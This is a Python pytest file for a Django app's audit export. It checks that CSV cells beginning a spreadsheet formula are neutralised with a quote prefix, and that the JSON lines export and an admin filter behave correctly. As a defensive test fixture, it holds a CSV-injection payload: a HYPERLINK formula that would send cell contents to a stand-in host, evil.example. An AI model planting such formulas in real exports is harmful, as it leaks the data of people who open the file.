"""Issue 15, item 6: the CSV export neutralises spreadsheet formulas (OWASP CSV injection), the
JSON lines export stays raw; the admin's document filter takes only ASCII ids."""

import csv
import io
import json

import pytest

from apps.tenants import services as tenants
from apps.tenants.models import Role
from tests.conftest import user_client

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def formula_record(acme):
    """A search whose query (and whose asker's name) a spreadsheet would run as a formula."""
    asker = tenants.member_create(tenant=acme.tenant, username="@mallory", role=Role.READER)
    response = user_client(asker, "acme").post("/api/v1/search", {"query": FORMULA}, format="json")
    assert response.status_code == 200, response.content
    return tenants.member_create(tenant=acme.tenant, username="carol", role=Role.COMPLIANCE)


def _export(auditor, output: str) -> str:
    response = user_client(auditor, "acme").get("/api/v1/audit/export", {"output": output})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(formula_record):
    rows = list(csv.DictReader(io.StringIO(_export(formula_record, "csv"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["query"] == "'" + FORMULA
    assert row["username"] == "'@mallory"
    for name, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


@pytest.mark.django_db
def test_json_lines_keep_the_exact_text(formula_record):
    (line,) = _export(formula_record, "jsonl").splitlines()
    record = json.loads(line)
    assert record["query"] == FORMULA and record["username"] == "@mallory"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (None, None),
        (-3, -3),
        (True, True),
        ("a=b", "a=b"),
    ],
)
def test_the_neutraliser_touches_only_strings_that_start_a_formula(value, expected):
    from apps.audit.selectors import csv_safe

    assert csv_safe(value) == expected


@pytest.mark.django_db
def test_the_admin_document_filter_ignores_a_non_ascii_digit(library, records, auditor):
    from tests.audit.test_admin import LIST, staff

    response = staff(auditor).get(LIST, {"document": "²"})  # the filter has choices: records retrieved documents
    assert response.status_code == 200, response  # not a redirect to ?e=1 (Django's "invalid lookup")
    assert len(response.context["cl"].result_list) == len(records)
